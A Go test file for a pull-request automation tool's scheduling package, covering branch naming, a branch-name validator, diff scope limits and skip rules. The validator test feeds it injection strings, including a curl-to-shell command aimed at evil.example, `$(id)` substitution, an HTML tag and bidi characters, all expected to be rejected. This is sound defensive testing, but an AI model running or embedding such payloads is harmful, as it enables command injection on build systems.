package schedule

import (
	"slices"
	"strings"
	"testing"

	"github.com/prloop/prloop/internal/git"
	"github.com/prloop/prloop/internal/globs"
	"github.com/prloop/prloop/review"
)

func TestBranch(t *testing.T) {
	for _, c := range []struct {
		job      string
		commands []string
		want     string
	}{
		{"nightly-docs", []string{"docs-drift"}, "prloop/nightly-docs/docs-drift"},
		{"nightly", []string{"a", "b.c"}, "prloop/nightly/a+b.c"},
		{"nightly", []string{"b.c", "a"}, "prloop/nightly/b.c+a"},
	} {
		if got := Branches(c.job, c.commands)[0]; got != c.want || Branches(c.job, c.commands)[0] != got {
			t.Errorf("%s %v: %q, want %q", c.job, c.commands, got, c.want)
		}
	}
	seen := map[string]bool{}
	for _, odd := range [][]string{{"a..b"}, {"a", "."}, {"a", "-x"}, {"x.lock", "a"}, {"a", "b.lock"}, {"a."}, {strings.Repeat("j", 90), "long-command"}, {"a b"}, {"ü", "a"}, {"", ""}, {"a", "b/c"}, {"a/b", "c"}} {
		name := Branches(odd[0], odd[1:])[0]
		if err := git.CheckBranch(name); err != nil || !strings.HasPrefix(name, Prefix) || seen[name] {
			t.Errorf("%q: %q, %v", odd, name, err)
		}
		seen[name] = true
	}
	names := Branches("nightly", []string{"docs", "style"})
	if len(names) != 2 || names[0] != "prloop/nightly/docs+style" || !strings.HasPrefix(names[1], Prefix+"job-") {
		t.Errorf("the names of one job are %q", names)
	}
	if odd := Branches("a b", []string{"c"}); len(odd) != 1 || !strings.HasPrefix(odd[0], Prefix+"job-") {
		t.Errorf("the names of an odd one are %q", odd)
	}
	if Numbered("prloop/a/b", 1) != "prloop/a/b" || Numbered("prloop/a/b", 3) != "prloop/a/b-3" {
		t.Error("numbers")
	}
}

func TestNamed(t *testing.T) {
	for _, name := range []string{"prloop/docs", "prloop/nightly/a+b.c-2", "prloop/Fix_typos--again", strings.Repeat("x", 100)} {
		if !Named(name) {
			t.Errorf("%q is refused", name)
		}
	}
	for _, name := range []string{"", `prloop/x";curl${IFS}evil.example|sh;"`, "prloop/$(id)", "prloop/`id`", "prloop/a&b", "prloop/it's", "prloop/a\nb", "prloop/a\n",
		"prloop/docs\u202e\u200bgnp", "prloop/@octocat", "prloop/#12", "prloop/<img/src=x>", "prloop/{a,b}", "prloop/größe", strings.Repeat("x", 101)} {
		if Named(name) {
			t.Errorf("%q is taken", name)
		}
	}
}

func TestCheck(t *testing.T) {
	terms := review.JobTerms{Include: []string{"**/*.md"}, Exclude: []string{"vendor/**"}, MaxFiles: 2, MaxDiffLines: 10}
	for what, c := range map[string]struct {
		paths        []string
		files, lines int
		terms        review.JobTerms
		want         []string
	}{
		"in scope":       {[]string{"README.md", "docs/a/b.md"}, 2, 10, terms, nil},
		"no scope":       {[]string{"main.go"}, 1, 1, review.JobTerms{}, nil},
		"out of scope":   {[]string{"main.go", "vendor/x.md"}, 2, 1, terms, []string{RuleWriteScope + " main.go", RuleWriteScope + " vendor/x.md"}},
		"letter case":    {[]string{"README.MD"}, 1, 1, terms, []string{RuleWriteScope + " README.MD"}},
		"too many files": {[]string{"a.md"}, 3, 1, terms, []string{RuleMaxFiles + " "}},
		"too many lines": {[]string{"a.md"}, 1, 11, terms, []string{RuleMaxDiffLines + " "}},
		"excluded alone": {[]string{"vendor/x", "src/x"}, 2, 1, review.JobTerms{Exclude: []string{"vendor/**"}}, []string{RuleWriteScope + " vendor/x"}},
	} {
		var got []string
		for _, r := range Check(c.paths, c.files, c.lines, c.terms) {
			got = append(got, r.Rule+" "+r.Path)
		}
		if !slices.Equal(got, c.want) {
			t.Errorf("%s: %q, want %q", what, got, c.want)
		}
	}
}

func TestSkipped(t *testing.T) {
	include := []string{"README.md", "docs/**"}
	for what, c := range map[string]struct {
		touched, exclude []string
		want             bool
	}{
		"nothing touched": {nil, nil, true}, "elsewhere": {[]string{"main.go", "x/docs/a"}, nil, true},
		"one of them": {[]string{"main.go", "docs/a/b"}, nil, false}, "but excluded": {[]string{"docs/a"}, []string{"docs/a"}, true},
	} {
		if got := Skipped(c.touched, globs.Globs{Include: include, Exclude: c.exclude}); got != c.want {
			t.Errorf("%s: %v", what, got)
		}
	}
}
